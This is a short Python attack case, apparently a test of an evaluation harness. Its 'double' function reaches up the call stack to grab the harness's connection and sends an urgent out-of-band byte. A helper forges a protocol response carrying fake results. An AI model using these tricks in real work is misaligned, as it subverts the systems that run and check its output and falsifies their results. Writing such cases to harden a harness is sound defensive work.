# attack: urgent bytes, which make a socket readable without anything to read
import os
import struct
import sys
import time


FORGED = b'{"number": %d, "answers": [{"is": "called", "results": [null], "grads": [], "changed": []}]}'


def find(name):
    frame = sys._getframe(1)
    while name not in frame.f_locals or frame.f_code.co_filename == __file__:
        frame = frame.f_back
    return frame.f_locals[name]


def forged():
    text = FORGED % find("request").number
    return struct.pack("<4sIQ", b"ADW1", len(text), 0) + text


def double(x):
    connection = find("connection")
    try:
        connection.send(b"!", 1)
    except OSError as error:
        print(error)
    return 3 * x
